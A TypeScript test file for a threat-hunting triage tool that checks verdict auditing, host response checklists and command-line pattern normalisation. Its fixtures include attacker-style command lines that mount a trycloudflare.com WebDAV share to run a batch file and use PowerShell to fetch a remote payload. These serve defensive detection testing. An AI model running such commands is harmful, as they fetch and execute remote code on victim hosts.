import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  VERDICTS,
  auditOfHit,
  commandLinePattern,
  createSession,
  hitId,
  hitRef,
  hitsOfHost,
  hitsByHost,
  hitsSharingPattern,
  hostProgress,
  hostStateOf,
  reviewedCount,
  sessionKey,
  setHostStatus,
  setNotes,
  setReason,
  setVerdict,
  toggleHitItem,
  toggleHostItem,
  verdictCounts,
  verdictOf,
  worstVerdict,
} from './model';
import { DATASETS, HUNT, makeHit } from './testing';

const T0 = '2025-07-01T10:00:00.000Z';
const T1 = '2025-07-01T10:00:30.000Z';
const T_LATER = '2025-07-01T11:00:00.000Z';

function fresh() {
  return createSession({ hunt: HUNT, datasets: DATASETS, analyst: 'alice', now: T0 });
}

describe('hit identity', () => {
  it('is the event id when the export has one', () => {
    expect(hitId(makeHit(3))).toBe('evt-3');
  });
  it('is file#row when it has none, independent of the file index in the drop order', () => {
    const a = makeHit(3, { eventId: null });
    const b = { ...a, key: '4:3', eventId: '4:3' };
    expect(hitId(a)).toBe('xdr_export.csv#3');
    expect(hitId(b)).toBe('xdr_export.csv#3');
  });
});

describe('session key', () => {
  it('is hunt id@version:sorted hashes, so the drop order does not matter', () => {
    const key = sessionKey(HUNT, DATASETS);
    expect(key).toBe(`${HUNT.id}@1.0:${'a'.repeat(64)},${'b'.repeat(64)}`);
    expect(sessionKey(HUNT, [...DATASETS].reverse())).toBe(key);
  });
  it('changes with the hunt version', () => {
    expect(sessionKey({ ...HUNT, version: '1.1' }, DATASETS)).not.toBe(sessionKey(HUNT, DATASETS));
  });
});

describe('setVerdict', () => {
  it('sets verdicts in bulk and audits each changed hit once', () => {
    const hits = [makeHit(1), makeHit(2), makeHit(3)].map(hitRef);
    let s = fresh();
    s = setVerdict(s, hits.slice(0, 1), 'malicious', 'alice', T0);
    s = setVerdict(s, hits, 'malicious', 'bob', T1);
    expect(hits.map((h) => verdictOf(s, h.id))).toEqual(['malicious', 'malicious', 'malicious']);
    // hit 1 was already malicious: no second entry for it.
    expect(s.audit.map((e) => [e.hitKey, e.from, e.to, e.analyst])).toEqual([
      ['evt-1', 'untriaged', 'malicious', 'alice'],
      ['evt-2', 'untriaged', 'malicious', 'bob'],
      ['evt-3', 'untriaged', 'malicious', 'bob'],
    ]);
    expect(s.decisions['evt-1'].analyst).toBe('alice');
    expect(s.updatedAt).toBe(T1);
  });

  it('returns the same session when nothing changes', () => {
    const s = setVerdict(fresh(), [hitRef(makeHit(1))], 'benign', 'alice', T0);
    expect(setVerdict(s, [hitRef(makeHit(1))], 'benign', 'alice', T1)).toBe(s);
    expect(setVerdict(s, [], 'benign', 'alice', T1)).toBe(s);
  });

  it('does not mutate its input', () => {
    const s = fresh();
    const copy = structuredClone(s);
    setVerdict(s, [hitRef(makeHit(1))], 'benign', 'alice', T0);
    expect(s).toEqual(copy);
  });

  it('counts a hit listed twice once', () => {
    const ref = hitRef(makeHit(1));
    const s = setVerdict(fresh(), [ref, ref], 'suspicious', 'alice', T0);
    expect(s.audit).toHaveLength(1);
  });
});

describe('reason and notes', () => {
  it('keeps the verdict and audits the text change', () => {
    const ref = hitRef(makeHit(1));
    let s = setVerdict(fresh(), [ref], 'benign', 'alice', T0);
    s = setReason(s, [ref], 'Known internal tool', 'alice', T1);
    expect(s.decisions[ref.id]).toMatchObject({ verdict: 'benign', reason: 'Known internal tool' });
    expect(auditOfHit(s, ref.id).map((e) => e.field)).toEqual(['verdict', 'reason']);
  });

  it('coalesces typing by one analyst into one audit entry, but not across a long pause', () => {
    const ref = hitRef(makeHit(1));
    let s = fresh();
    s = setNotes(s, [ref], 'a', 'alice', T0);
    s = setNotes(s, [ref], 'ab', 'alice', T1);
    s = setNotes(s, [ref], 'abc', 'alice', T1);
    expect(s.audit).toHaveLength(1);
    expect(s.audit[0]).toMatchObject({ field: 'notes', from: '', to: 'abc', at: T0 });
    s = setNotes(s, [ref], 'abcd', 'alice', T_LATER);
    expect(s.audit).toHaveLength(2);
    s = setNotes(s, [ref], 'abcde', 'bob', T_LATER);
    expect(s.audit).toHaveLength(3);
  });

  it('a note on an untriaged hit leaves it untriaged', () => {
    const ref = hitRef(makeHit(1));
    const s = setNotes(fresh(), [ref], 'look later', 'alice', T0);
    expect(verdictOf(s, ref.id)).toBe('untriaged');
    expect(reviewedCount(s, [ref.id])).toEqual({ done: 0, total: 1 });
  });
});

describe('checklists', () => {
  it('ticks host response actions with who and when, and counts progress', () => {
    let s = fresh();
    expect(hostProgress(s, 'WS-1')).toEqual({ done: 0, total: 5 });
    s = toggleHostItem(s, 'WS-1', 3, 'alice', T0);
    s = toggleHostItem(s, 'WS-1', 0, 'bob', T1);
    expect(hostProgress(s, 'WS-1')).toEqual({ done: 2, total: 5 });
    expect(hostStateOf(s, 'WS-1').checklist[3]).toEqual({ done: true, by: 'alice', at: T0 });
    s = toggleHostItem(s, 'WS-1', 3, 'bob', T_LATER);
    expect(hostProgress(s, 'WS-1')).toEqual({ done: 1, total: 5 });
    expect(s.audit.map((e) => [e.host, e.item?.slice(0, 7), e.from, e.to])).toEqual([
      ['WS-1', 'Isolate', 'open', 'done'],
      ['WS-1', 'Investi', 'open', 'done'],
      ['WS-1', 'Isolate', 'done', 'open'],
    ]);
    expect(toggleHostItem(s, 'WS-1', 99, 'bob', T1)).toBe(s);
  });

  it('sets host status and audits only changes', () => {
    let s = setHostStatus(fresh(), 'WS-1', 'contained', 'alice', T0);
    expect(hostStateOf(s, 'WS-1')).toMatchObject({ status: 'contained', statusBy: 'alice', statusAt: T0 });
    expect(setHostStatus(s, 'WS-1', 'contained', 'bob', T1)).toBe(s);
    s = setHostStatus(s, 'WS-1', 'cleared', 'bob', T1);
    expect(s.audit.map((e) => `${e.field}:${e.from}->${e.to}`)).toEqual(['host-status:open->contained', 'host-status:contained->cleared']);
  });

  it('ticks per-hit considerations and false-positive checks', () => {
    const ref = hitRef(makeHit(1));
    const s = toggleHitItem(fresh(), ref, 2, 'alice', T0);
    expect(s.checklists.hit[2].kind).toBe('false_positive');
    expect(s.hitChecklists[ref.id].map((i) => i.done)).toEqual([false, false, true]);
    expect(auditOfHit(s, ref.id)[0]).toMatchObject({ field: 'checklist', eventId: 'evt-1', to: 'done' });
  });
});

describe('selectors', () => {
  it('counts reviewed of total and verdicts', () => {
    const hits = [1, 2, 3, 4].map((n) => hitRef(makeHit(n)));
    let s = setVerdict(fresh(), hits.slice(0, 2), 'benign', 'alice', T0);
    s = setVerdict(s, hits.slice(1, 2), 'untriaged', 'alice', T1);
    expect(reviewedCount(s, hits.map((h) => h.id))).toEqual({ done: 1, total: 4 });
    expect(verdictCounts(s, hits.map((h) => h.id))).toMatchObject({ benign: 1, untriaged: 3 });
  });

  it('ranks worst verdict with untriaged above benign and false positive', () => {
    expect(worstVerdict([])).toBe('untriaged');
    expect(worstVerdict(['benign', 'false_positive'])).toBe('false_positive');
    expect(worstVerdict(['benign', 'untriaged'])).toBe('untriaged');
    expect(worstVerdict(['suspicious', 'malicious', 'benign'])).toBe('malicious');
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...VERDICTS), { minLength: 1 }), (vs) => vs.includes(worstVerdict(vs))),
    );
  });

  it('selects bulk targets by host and by command-line pattern', () => {
    const hits = [
      makeHit(1, { host: 'A', cmd: 'cmd.exe /c net use \\\\alpha-beta.trycloudflare.com@SSL\\x 12' }),
      makeHit(2, { host: 'B', cmd: 'CMD.EXE  /c net use \\\\gamma-delta.trycloudflare.com@SSL\\x 345' }),
      makeHit(3, { host: 'A', cmd: 'powershell.exe -c iwr https://x.trycloudflare.com/a' }),
    ];
    expect(hitsOfHost(hits, 'A').map((h) => h.source.row)).toEqual([1, 3]);
    expect([...hitsByHost(hits)].map(([host, group]) => [host, group.map((h) => h.source.row)])[0]).toEqual(['A', [1, 3]]);
    const pattern = commandLinePattern('cmd.exe /c net use \\\\alpha-beta.trycloudflare.com@SSL\\x 12');
    expect(hitsSharingPattern(hits, pattern).map((h) => h.source.row)).toEqual([1, 2]);
  });
});

describe('commandLinePattern', () => {
  it('replaces digits, GUIDs and the tunnel label, lower-cases and collapses spaces', () => {
    expect(commandLinePattern('cmd.exe /c  net use \\\\Mental-CPU-gc.trycloudflare.com@SSL\\DavWWWRoot\\7.bat')).toBe(
      'cmd.exe /c net use \\\\<tunnel>.trycloudflare.com@ssl\\davwwwroot\\<n>.bat',
    );
    expect(commandLinePattern('x {6F9619FF-8B86-D011-B42D-00C04FC964FF} y 3f2504e0-4f89-11d3-9a0c-0305e82c3301')).toBe(
      'x <guid> y <guid>',
    );
    expect(commandLinePattern('ping 10.0.0.12')).toBe('ping <n>.<n>.<n>.<n>');
    expect(commandLinePattern('  ')).toBe('');
  });

  it('is idempotent and never keeps a digit', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const p = commandLinePattern(s);
        return commandLinePattern(p) === p && !/\d/.test(p);
      }),
    );
  });
});
